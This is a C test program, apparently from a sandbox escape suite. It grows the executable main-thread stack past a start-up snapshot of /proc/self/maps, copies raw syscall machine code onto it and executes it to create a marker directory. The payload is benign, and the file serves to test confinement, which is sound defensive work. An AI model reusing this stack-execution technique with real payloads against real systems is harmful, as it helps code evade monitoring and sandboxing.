/* SPDX-License-Identifier: ISC */
/*
 * escape_execstack MARK (attack 5), linked with -z execstack: the main
 * thread's stack is executable.  At start-up it is one small mapping; we
 * grow it about 1 MiB further down (well within RLIMIT_STACK), past the
 * extent any start-up snapshot of /proc/self/maps saw, copy
 * `mov $83,%eax; syscall; ret` there and call it: mkdir(MARK).  Stopped:
 * killed (or the stack is not executable: exit 3).
 */
#include <alloca.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

static const uint8_t code[] = { 0xb8, 83, 0, 0, 0, 0x0f, 0x05, 0xc3 };

/* The permissions of the mapping that holds addr. */
static int
perms(const void *addr, char perm[8])
{
	unsigned long lo, hi, a = (unsigned long)addr;
	char line[512];
	FILE *f = fopen("/proc/self/maps", "re");
	int found = 0;

	while (f != NULL && !found && fgets(line, sizeof(line), f) != NULL)
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) == 3 &&
		    a >= lo && a < hi)
			found = 1;
	if (f != NULL)
		fclose(f);
	return found ? 0 : -1;
}

static __attribute__((noinline)) long
deep(const char *mark)
{
	size_t size = 1u << 20;
	volatile uint8_t *buf = alloca(size);
	char perm[8];

	/* touch from the top down, one page at a time: the stack grows */
	for (size_t off = size; off >= 4096; off -= 4096)
		buf[off - 4096] = 0;
	memcpy((void *)buf, code, sizeof(code));
	if (perms((const void *)buf, perm) == -1 || perm[2] != 'x') {
		printf("stack at %p is not executable (%s)\n", (void *)buf,
		    perm);
		return -1000;
	}
	printf("calling code on the stack at %p (%s)\n", (void *)buf, perm);
	return ((long (*)(const char *, long))buf)(mark, 0755);
}

int
main(int argc, char **argv)
{
	long r;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc != 2)
		return 2;
	r = deep(argv[1]);
	printf("mkdir returned %ld\n", r);
	return r == 0 ? 0 : 3;
}
